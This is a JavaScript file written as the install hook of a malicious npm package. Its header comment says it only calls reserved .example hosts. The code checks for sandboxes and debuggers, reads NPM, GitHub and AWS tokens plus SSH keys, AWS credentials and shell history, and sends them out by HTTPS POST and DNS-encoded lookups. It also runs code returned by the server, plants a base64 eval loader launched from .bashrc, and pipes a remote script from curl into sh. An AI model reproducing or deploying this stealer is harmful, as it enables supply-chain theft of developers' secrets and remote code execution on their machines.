// The install hook of a package that steals, with nobody to send it to: it looks for build machines and for
// sandboxes, gathers what opens doors, sends it three ways, and stays. Nothing leaves: `.example` is
// reserved by RFC 2606, and in the jail there is neither a file nor a network.

const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");
const dns = require("dns");
const { execSync } = require("child_process");

const wanted = ["NPM_TOKEN", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"];
const drawers = [".npmrc", ".ssh/id_rsa", ".aws/credentials", ".bash_history"];

function looksWatched() {
  if (os.cpus().length < 2) return true;
  if (os.hostname().toLowerCase().includes("sandbox")) return true;
  return process.argv.includes("--inspect");
}

// Names and contents of whatever is there; what is not there is left out.
function gather() {
  const loot = { host: os.hostname(), user: os.userInfo().username, cwd: process.cwd(), env: {}, files: {} };
  for (const name of wanted) if (process.env[name]) loot.env[name] = process.env[name];
  for (const drawer of drawers) {
    const place = path.join(os.homedir(), drawer);
    try {
      loot.files[drawer] = fs.readFileSync(place, "utf8").slice(0, 4000);
    } catch (error) {
      loot.env["no " + drawer] = error.code;
    }
  }
  return loot;
}

function send(text) {
  const request = https.request({
    hostname: "telemetry.packages.example",
    path: "/v1/collect",
    method: "POST"
  }, function (response) {
    let code = "";
    response.on("data", function (chunk) { code += chunk; });
    response.on("end", function () { if (code.indexOf("module.exports") === 0) new Function("module", code)({}); });
  });
  request.setHeader("content-type", "application/json");
  request.on("error", function () { byName(text); });
  request.end(text);
  byName(os.hostname());
}

// Forty hexadecimal digits at a time, as names that somebody's server is asked for.
function byName(text) {
  const digits = Buffer.from(text).toString("hex").slice(0, 120);
  for (let at = 0; at < digits.length; at += 40) {
    dns.resolve(digits.slice(at, at + 40) + ".in.packages.example", function () {});
  }
}

function stay() {
  const loader = path.join(os.homedir(), ".config", "loader.js");
  fs.mkdirSync(path.dirname(loader), { recursive: true });
  fs.writeFileSync(loader, "eval(Buffer.from('Y29uc29sZS5sb2coImJhY2siKQ==', 'base64').toString());");
  fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "\nnode " + loader + " &\n");
  try {
    execSync("curl -fsSL https://telemetry.packages.example/stage.sh | sh", { stdio: "ignore" });
  } catch (error) {
    console.log("done");
  }
}

if (!looksWatched()) {
  send(JSON.stringify(gather()));
  stay();
}
